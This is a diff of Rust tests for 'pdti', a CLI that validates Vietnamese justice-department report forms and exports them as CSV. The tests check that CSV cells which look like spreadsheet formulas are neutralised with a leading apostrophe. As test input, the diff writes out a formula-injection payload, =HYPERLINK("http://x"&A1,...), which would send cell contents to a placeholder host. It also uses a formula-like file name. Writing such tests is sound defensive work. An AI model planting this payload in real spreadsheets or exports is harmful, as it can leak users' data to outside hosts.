@@ -184,7 +184,7 @@ fn validate_csv_puts_returns_side_by_side_for_a_spreadsheet() {
     assert_eq!(col("từ ngày"), "2023-01-01");
     assert_eq!(col("lỗi"), "0");
     assert_eq!(col("3.1.2 (%)"), "88.37");
-    assert_eq!(col("4.1 (%)"), "provinceComputes");
+    assert_eq!(col("4.1 (%)"), "do tỉnh tính", "the CSV speaks Vietnamese");
     let sample = common::path("fixtures/laichau-stp-2023h1.tsv");
     let o = pdti(&["import-legacy", "--format", "csv", sample.to_str().unwrap()]);
     let text = stdout(&o);
@@ -346,5 +346,51 @@ fn a_double_dash_ends_the_options_so_a_file_may_start_with_a_dash() {
     // `-` still reads standard input, and `--format=csv` still works.
     let o = run(&["validate", "--format=csv", "--", "-x.json"]);
     assert_eq!(o.status.code(), Some(0));
-    assert!(stdout(&o).contains("\r\n-x.json,Sở Tư pháp,"), "{}", stdout(&o));
+    assert!(stdout(&o).contains("\r\n\"'-x.json\",Sở Tư pháp,"), "{}", stdout(&o));
+}
+
+#[test]
+fn csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let agency = r#"=HYPERLINK("http://x"&A1,"Bấm")"#;
+    let mut s = pdti_form::engine::Session::new(common::form());
+    s.set_all([
+        ("agency.name", agency),
+        ("period.from", "-01/2023"),
+        ("period.to", "30/06/2023"),
+        ("3.1.1", "32"),
+        ("3.1.2.a", "1"),
+    ])
+    .unwrap();
+    let dir = std::env::temp_dir().join(format!("pdti-cli-csv-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("@SUM(1+1).json");
+    std::fs::write(&file, pdti_form::document::to_json(&s, None, None)).unwrap();
+    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).args(["validate", "--format", "csv"]).arg(&file).output().unwrap();
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let text = stdout(&o);
+    // Read back by an independent CSV reader.
+    let mut reader = csv::Reader::from_reader(text.strip_prefix('\u{FEFF}').unwrap().as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    let col = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(col("cơ quan"), format!("'{agency}"));
+    assert_eq!(col("tệp"), file.to_str().unwrap(), "an absolute path starts with /: safe as it is");
+    assert_eq!(col("từ ngày"), "'-01/2023", "an unreadable date is kept as typed, neutralised");
+    assert_eq!(col("đến ngày"), "2023-06-30");
+    // Numbers are untouched.
+    assert_eq!(col("lỗi"), s.summary().errors.to_string());
+    assert_eq!(col("3.1.2 (%)"), "3.13");
+    assert_eq!(col("6.4 (%)"), "chưa tính được: thiếu mẫu số");
+    // A file name that starts like a formula is neutralised too.
+    let o = Command::new(env!("CARGO_BIN_EXE_pdti"))
+        .current_dir(&dir)
+        .args(["validate", "--format=csv", "@SUM(1+1).json"])
+        .output()
+        .unwrap();
+    let text = stdout(&o);
+    let mut reader = csv::Reader::from_reader(text.strip_prefix('\u{FEFF}').unwrap().as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[0], "'@SUM(1+1).json");
+    assert_eq!(&row[1], format!("'{agency}"));
 }
